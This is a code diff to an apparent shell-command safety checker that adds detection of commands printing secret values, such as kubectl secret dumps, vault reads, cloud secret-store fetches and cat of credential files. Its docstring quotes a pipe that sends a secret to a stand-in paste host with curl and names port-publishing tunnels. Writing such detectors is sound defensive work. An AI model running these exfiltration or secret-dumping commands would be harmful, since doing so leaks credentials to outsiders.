@@ -4,7 +4,8 @@ A line is judged as a whole here, because the effect lies between its commands: 
 curl -F file=@- https://paste.example` reads a secret and sends it away, though neither half is dangerous
 alone. Opening to anyone: tunnels that publish a local port (ngrok, cloudflared), `ssh -R` bound to every
 address, `ufw allow` of a database or admin port with no source, notebooks without a token, a web
-server over /etc.
+server over /etc. A secret's value printed to the terminal (`kubectl get secret X -o jsonpath=...`,
+`vault kv get`, `cat ~/.aws/credentials`) ends up in scrollback, screen shares and chat threads.
 """
 
 from __future__ import annotations
@@ -92,10 +93,60 @@ def _opened(inv: Invocation) -> str | None:
     return None
 
 
+# Commands that print a secret's value (not its name or metadata): `kubectl get secret X -o yaml`, `vault kv get`,
+# cloud secret stores, account keys listed, credential files shown.
+_PRINTS_SECRET: tuple[tuple[str, tuple[frozenset[str], ...]], ...] = (
+    ("aws", (frozenset({"get-secret-value"}),)), ("aws", (frozenset({"get-parameter", "get-parameters"}),
+                                                         frozenset({"--with-decryption"}))),
+    ("gcloud", (frozenset({"secrets"}), frozenset({"access"}))),
+    ("az", (frozenset({"secret"}), frozenset({"show"}))), ("az", (frozenset({"keys"}), frozenset({"list"}))),
+    ("heroku", (frozenset({"config"}),)),
+)
+_SECRET_FIELD = re.compile(r"pass|secret|token|key|cred|private|auth|dsn|url", re.IGNORECASE)
+_PUBLIC_DATA = re.compile(r"\.(?:crt|cert|pem|pub)\b|ca\\?\.crt|\.metadata", re.IGNORECASE)
+
+
+def _option(args: tuple[str, ...], names: tuple[str, ...]) -> str | None:
+    for i, arg in enumerate(args):
+        name, eq, value = arg.partition("=")
+        if name in names:
+            return value if eq else (args[i + 1] if i + 1 < len(args) else "")
+    return None
+
+
+def _prints_secret(inv: Invocation) -> bool:
+    program, args = inv.program.lower(), inv.args
+    if inv.redirects:
+        return False  # written to a file, not shown
+    if program in ("cat", "type", "get-content", "less", "more", "head", "tail"):
+        return any(_SECRET_FILES.search(a) for a in args if not a.startswith("-"))
+    if program in ("kubectl", "oc") and {"secret", "secrets"} & set(args) and "get" in args:
+        shape = (_option(args, ("-o", "--output")) or "").lower()
+        if shape in ("yaml", "json"):
+            return True
+        keys = re.findall(r"\.data\.([\w\\.-]+)", shape)  # {.data.password}: that key; {.data}: every key
+        return shape.startswith(("jsonpath", "go-template", "template")) and ".data" in shape and not _PUBLIC_DATA.search(
+            shape) and (not keys or any(_SECRET_FIELD.search(k) for k in keys))
+    if program == "vault" and ("read" in args[:1] or args[:2] == ("kv", "get")) and "metadata" not in args:
+        field = _option(args, ("-field",))
+        return field is None or bool(_SECRET_FIELD.search(field))
+    words = {a.lower().split("=", 1)[0] for a in args}
+    return any(program == name and all(group & words for group in groups) for name, groups in _PRINTS_SECRET)
+
+
+def _read_privately(found: list[Invocation], i: int) -> bool:
+    """The printed secret goes into a command that only inspects it (`| openssl x509 -noout`, `| jq keys`, `| wc`)."""
+    later = found[i + 1:]
+    return any((inv.program == "openssl" and "x509" in inv.args) or (inv.program == "jq" and any(
+        "keys" in a for a in inv.args)) or inv.program in ("wc", "sha256sum", "md5sum") for inv in later)
+
+
 def exposures(found: list[Invocation]) -> list[Invocation]:
     """Finding-only invocations for what a line exposes (see the module's docstring)."""
     out = [Invocation(program=inv.program, detector="opened_to_anyone", args=(why,))
            for inv in found if not inv.detector and (why := _opened(inv))]
     if _secret_sent(found):
         out.append(Invocation(program="<pipe>", detector="secret_sent"))
+    elif any(_prints_secret(inv) and not _read_privately(found, i) for i, inv in enumerate(found) if not inv.detector):
+        out.append(Invocation(program="<terminal>", detector="secret_printed"))
     return out
